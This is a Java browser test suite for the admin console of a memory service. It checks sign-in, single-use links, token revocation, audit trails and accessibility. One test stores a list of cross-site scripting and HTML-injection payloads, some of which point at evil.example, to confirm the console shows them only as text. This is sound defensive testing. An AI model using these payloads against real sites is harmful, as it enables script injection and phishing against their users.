package net.memnos.scenario;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** An administrator at the console, in a browser. */
class ConsoleScenario extends ConsoleVisits {

    /** Each would put a mark into the page, or ask something of another host, if it were read as anything but text. */
    private static final List<String> HOSTILE = List.of(
            "<script>window.pwned=1</script> one",
            "<img src=x onerror=\"window.pwned=2\"> two",
            "<svg onload=window.pwned=3> three",
            "\"><iframe src=\"javascript:parent.pwned=4\"></iframe> four",
            "javascript:window.pwned=5 five",
            "<a href=\"javascript:window.pwned=6\">six</a>",
            "</textarea></title></style><style>body{display:none}</style> seven",
            "{{constructor.constructor('window.pwned=8')()}} ${window.pwned=8} eight",
            "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/> nine",
            "<form action=http://evil.example><button>Sign in again</button></form> ten");

    @Override
    void fill() {
        team.member("bob", SHOP);
        Rest bob = team.rest("bob");
        says(bob, "The port of billing is 8080.", "billing", "8080", "2026-01-01");
        says(bob, "The port of billing is 9090.", "billing", "9090", "2026-03-01");
        HOSTILE.forEach(text -> bob.post(
                        "/remember",
                        Map.of(
                                "namespace",
                                SHOP,
                                "text",
                                text,
                                "facts",
                                List.of(Map.of(
                                        "subject", text, "predicate", "note", "object", text, "statement", text))))
                .body(200));
        bob.post("/recall", Map.of("namespace", SHOP, "query", "Which port does billing have?"))
                .body(200);
    }

    private static void says(Rest who, String text, String subject, String port, String from) {
        who.post(
                        "/remember",
                        Map.of(
                                "namespace",
                                SHOP,
                                "text",
                                text,
                                "facts",
                                List.of(Map.of(
                                        "subject", subject, "predicate", "port", "object", port, "valid_from", from))))
                .body(200);
    }

    @Test
    void a_wrong_token_is_refused_and_the_right_one_lasts_until_the_end_of_the_session() {
        browser.picture("sign-in");
        browser.fill("Token", "mnk_" + "x".repeat(43));
        browser.click("Sign in");
        browser.await("document.querySelector('.problem')");
        browser.picture("sign-in-refused");
        signIn();
        browser.awaitText("turns stored");
        browser.await("!document.querySelector('.waiting')");
        browser.picture("dashboard");
        browser.visit(team.url() + "/admin?reload");
        browser.awaitText("turns stored");
        browser.click("Sign out");
        browser.awaitText("You are signed out.");
        assertEquals(
                "null",
                browser.evaluate("String(sessionStorage.getItem('memnos-token'))")
                        .asString(""));
        assertEquals(0, browser.evaluate("localStorage.length").asInt());
        assertEquals("", browser.evaluate("document.cookie").asString("?"));
    }

    @Test
    void a_link_signs_in_once_and_leaves_no_trace_in_the_address() {
        String secret = team.rest("ann")
                .post("/admin/api/sign-ins", Map.of())
                .body(201)
                .path("secret")
                .asString("");
        browser.visit(team.url() + "/admin?link#sign-in=" + secret);
        browser.awaitText("turns stored");
        assertFalse(browser.evaluate("location.href").asString("").contains(secret));
        assertFalse(browser.evaluate("document.documentElement.outerHTML")
                .asString("")
                .contains(secret));
        String session =
                browser.evaluate("sessionStorage.getItem('memnos-token')").asString("");
        assertEquals(
                "console",
                team.stranger(session).get("/whoami").body(200).path("client").asString(""));
        browser.click("Sign out");
        browser.awaitText("You are signed out.");
        browser.visit(team.url() + "/admin?again#sign-in=" + secret);
        browser.awaitText("was used or has expired");
        browser.picture("link-used");
        String late = team.rest("ann")
                .post("/admin/api/sign-ins", Map.of())
                .body(201)
                .path("secret")
                .asString("");
        team.clock().advance(Duration.ofMinutes(11));
        assertEquals(
                401,
                team.stranger("")
                        .post("/admin/api/session", Map.of("secret", late))
                        .status());
        team.clock().advance(Duration.ofHours(8));
        assertEquals(401, team.stranger(session).get("/whoami").status());
    }

    @Test
    void every_page_shows_what_there_is() {
        signIn();
        for (String name : List.of(
                "dashboard",
                "namespaces",
                "memories",
                "recall",
                "access/principals",
                "access/tokens",
                "access/grants",
                "review",
                "audit",
                "usage",
                "secrets",
                "settings")) {
            page("#/" + name);
            assertEquals(
                    0,
                    browser.evaluate("document.querySelectorAll('.problem').length")
                            .asInt(),
                    name + ": " + browser.text());
            browser.picture("page-" + name.replace('/', '-'));
            assertEquals(List.of(), unnamed(), name);
            assertFalse(overflows(), name + " is wider than the screen");
        }
    }

    private List<String> unnamed() {
        return browser.evaluate("[...document.querySelectorAll('button, a, input, select, svg, dialog')].filter(one =>"
                        + " !(one.getAttribute('aria-label') || one.getAttribute('aria-labelledby') || one.closest('label')"
                        + " || (one.labels && one.labels.length) || one.textContent.trim())).map(one => one.outerHTML)")
                .valueStream()
                .map(one -> one.asString(""))
                .toList();
    }

    @Test
    void it_is_readable_in_the_dark_and_on_a_phone() {
        signIn();
        String fact = fact("billing");
        for (String name : List.of("dashboard", "memories", "access/tokens", "memory/" + fact)) {
            String shown = name.startsWith("memory/") ? "memory" : name.replace('/', '-');
            browser.screen(1280, 900, true);
            page("#/" + name);
            browser.picture("dark-" + shown);
            browser.screen(390, 844, false);
            browser.picture("phone-" + shown);
            assertFalse(overflows(), name + " is wider than a phone");
        }
        browser.click("Menu");
        browser.picture("phone-menu");
    }

    private String fact(String subject) {
        return team.rest("ann")
                .get("/admin/api/memories?kind=fact&status=superseded&namespace=" + SHOP)
                .body(200)
                .path("memories")
                .valueStream()
                .filter(one -> one.path("subject").asString("").equals(subject))
                .findFirst()
                .orElseThrow()
                .path("id")
                .asString("");
    }

    @Test
    void a_memory_has_its_history_on_both_axes_and_says_who_was_shown_it() {
        signIn();
        page("#/memory/" + fact("billing"));
        browser.await("document.querySelectorAll('.bitemporal rect').length >= 1");
        browser.awaitText("Replaced by");
        browser.picture("memory");
        assertTrue(browser.text().contains("bob"), browser.text());
    }

    @Test
    void a_token_is_shown_once_and_opens_nothing_after_it_was_revoked() {
        signIn();
        page("#/access/tokens");
        browser.fill("Principal", "bob");
        browser.fill("Label", "of the console's test");
        browser.click("Mint");
        browser.await("document.querySelector('dialog[open] input.secret')");
        browser.picture("token-once");
        String minted = browser.evaluate("document.querySelector('dialog[open] input.secret').value")
                .asString("");
        String hint = minted.substring(0, 8) + "…" + minted.substring(minted.length() - 4);
        assertEquals(200, team.stranger(minted).get("/whoami").status());
        browser.click("Done");
        browser.await("!document.querySelector('dialog')");
        assertFalse(browser.evaluate("document.documentElement.outerHTML")
                .asString("")
                .contains(minted));
        browser.click("Revoke " + hint + " of bob");
        browser.awaitText("cannot use it any more");
        browser.picture("confirm");
        browser.click("Cancel");
        assertEquals(200, team.stranger(minted).get("/whoami").status());
        browser.click("Revoke " + hint + " of bob");
        browser.click("Revoke it");
        browser.awaitText("revoked");
        assertEquals(401, team.stranger(minted).get("/whoami").status());
    }

    @Test
    void a_question_is_asked_as_somebody_else_and_stands_in_the_trail_as_ones_own() {
        signIn();
        page("#/recall");
        browser.fill("Question", "Which port does billing have?");
        browser.fill("As", "bob");
        browser.fill("Namespace", SHOP);
        browser.click("Recall");
        browser.awaitText("Answer for bob");
        browser.awaitText("9090");
        browser.await("!document.querySelector('.waiting')");
        browser.picture("recall");
        browser.fill("As", "nobody");
        browser.click("Recall");
        browser.await("document.querySelector('.problem')");
        page("#/audit");
        browser.awaitText("recall as");
        browser.click("Verify the trail");
        browser.awaitText("The trail is whole.");
        browser.picture("audit-verified");
    }

    @Test
    void a_memory_is_forgotten_after_it_was_asked() {
        String turn = team.rest("ann")
                .post("/remember", Map.of("namespace", SHOP, "text", "The lift was out of order."))
                .body(200)
                .path("turn_id")
                .asString("");
        signIn();
        page("#/memory/" + turn);
        browser.choose("How", "erase");
        browser.click("Forget");
        browser.awaitText("It cannot be undone.");
        browser.press("Escape");
        browser.await("!document.querySelector('dialog')");
        assertEquals(200, team.rest("ann").get("/memories/" + turn).status());
        browser.click("Forget");
        browser.click("Erase it");
        browser.await("location.hash.startsWith('#/memories')");
        assertEquals(404, team.rest("ann").get("/memories/" + turn).status());
    }

    @Test
    void what_is_refused_says_why_and_what_to_do() {
        browser.fill("Token", team.engine().token("bob"));
        browser.click("Sign in");
        browser.await("document.querySelector('main h1')");
        page("#/access/principals");
        browser.awaitText("does not administer this store");
        browser.picture("refused");
        browser.click("Sign out");
    }

    @Test
    void no_stored_text_is_ever_anything_but_text() {
        signIn();
        List<String> ids = team.rest("ann")
                .get("/admin/api/memories?limit=100&namespace=" + SHOP)
                .body(200)
                .path("memories")
                .valueStream()
                .map(one -> one.path("id").asString(""))
                .collect(Collectors.toList());
        page("#/memories?namespace=" + SHOP);
        browser.awaitText("<img src=x onerror=\"window.pwned=2\"> two");
        browser.picture("hostile-memories");
        for (String id : ids.stream().limit(12).toList()) {
            page("#/memory/" + id);
            browser.await("document.querySelector('blockquote')");
        }
        page("#/review?namespace=" + SHOP);
        browser.picture("hostile-review");
        browser.evaluate("location.hash = '#/<img src=x onerror=window.pwned=9>'");
        browser.awaitText("There is no such page");
        page("#/memories?text=%3Cimg%20src%3Dx%20onerror%3D%22window.pwned%3D10%22%3E");
        assertEquals(
                0,
                browser.evaluate("document.querySelectorAll('main img, main iframe, main script, main link').length")
                        .asInt());
    }

    @Test
    void the_keyboard_alone_is_enough_to_sign_in_and_to_search() {
        browser.type(team.engine().token("ann"));
        browser.press("Enter");
        browser.await("document.querySelector('main h1')");
        browser.tabTo("Memories");
        browser.press("Enter");
        browser.await("location.hash === '#/memories' && !document.querySelector('.waiting')");
        browser.tabTo("Words");
        browser.type("billing");
        browser.press("Enter");
        browser.await("location.hash.includes('text=billing') && !document.querySelector('.waiting')");
        browser.awaitText("9090");
        browser.tabTo("The port of billing is 9090.");
        browser.picture("keyboard");
        browser.press("Enter");
        browser.await("location.hash.startsWith('#/memory/') && document.querySelector('blockquote')");
    }
}
